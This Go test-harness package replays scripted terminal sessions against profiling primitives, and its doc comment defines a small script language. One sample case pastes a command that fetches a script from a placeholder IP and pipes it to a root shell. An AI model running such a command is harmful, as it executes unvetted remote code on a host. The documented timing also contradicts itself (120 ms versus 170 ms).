// Package profiletest plays session scripts and checks primitives against
// them. A primitive's script stands in testdata beside its package, named as
// the primitive is without its domain, dots as underscores: the script of
// motor.input_modality is profile/motor/testdata/input_modality.txt.
//
// A script holds cases. Each begins with a title, plays one session, and says
// what the primitive must make of it:
//
//	# an operator pastes now and then
//	type "cd /tmp\r"
//	wait 2s
//	paste "curl -s http://198.51.100.7/a.sh | sh\r"
//	print "root@web01:~# "
//	want mixed 0.70
//	measure pastes=1
//
// One line is one statement; text stands in quotes with the escapes of Go.
//
//	# TITLE                     begins a case
//	// REMARK                   is passed over, as are empty lines
//	type "TEXT" [every 120ms]   sends each char by itself, 170 ms apart; the
//	                            first comes one interval from now
//	key NAME|"BYTES"... [x5] [every 120ms]
//	                            sends each key as one event, in the same way;
//	                            the names are those of [Keys]
//	paste "TEXT"                sends the text as one event, now
//	print "TEXT"                shows the text on the terminal, now
//	shell "PROMPT"              shows the prompt of a shell, now; from here on
//	                            chars, Enter and backspace are shown as typed
//	secret "TEXT" [every 120ms] types without showing
//	exec "COMMAND"              gives a command at login, now
//	wait 2s                     lets time pass; negative times step back
//	repeat 20 { ... }           plays the lines between its braces so often
//	fidelity input=key output=false resolution=1ms shared=true
//	                            says what the recording can show
//	want VALUE CONFIDENCE       the value and its exact confidence
//	want silent                 no observation
//	want unobservable           the recording lacks what is needed
//	measure NAME=NUMBER...      numbers the observation must hold; "nan" for
//	                            one that is not defined
//
// Where a case does not say otherwise, its recording holds packets of input
// and all output, in steps of 1 µs, with times of its own and no wall clock.
package profiletest

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"gait/profile"
)

// Run plays the script of a primitive, each case as a subtest. It fails where
// the script is missing or empty, and where its cases do not reach silence and
// every value that the primitive can take (one value, for hashes and tags).
func Run(t *testing.T, p *profile.Primitive) {
	t.Helper()
	if err := wellFormed(p); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join("testdata", scriptName(p))
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("primitive %s: %v", p.Name, err)
	}
	cases, err := parse(string(text))
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	engine := profile.NewEngine([]*profile.Primitive{p})
	for _, c := range cases {
		t.Run(c.title, func(t *testing.T) {
			if err := c.check(p, engine); err != nil {
				t.Errorf("%s:%d: %v", path, c.want.line, err)
			}
		})
	}
	if missing := unreached(p, cases); len(missing) > 0 {
		t.Errorf("%s: no case reaches %s", path, strings.Join(missing, ", "))
	}
}

// RunAll runs each primitive of a package as a subtest. It fails where there
// is none, and where testdata holds a script that no primitive plays.
func RunAll(t *testing.T, all []*profile.Primitive) {
	t.Helper()
	if len(all) == 0 {
		t.Fatal("no primitives to test")
	}
	var played []string
	for _, p := range all {
		played = append(played, scriptName(p))
		t.Run(p.Name, func(t *testing.T) { Run(t, p) })
	}
	scripts, err := filepath.Glob(filepath.Join("testdata", "*.txt"))
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range scripts {
		if !slices.Contains(played, filepath.Base(path)) {
			t.Errorf("%s: no primitive of this name", path)
		}
	}
}

// scriptName gives the file name of a primitive's script.
func scriptName(p *profile.Primitive) string {
	_, name, _ := strings.Cut(p.Name, ".")
	return strings.ReplaceAll(name, ".", "_") + ".txt"
}
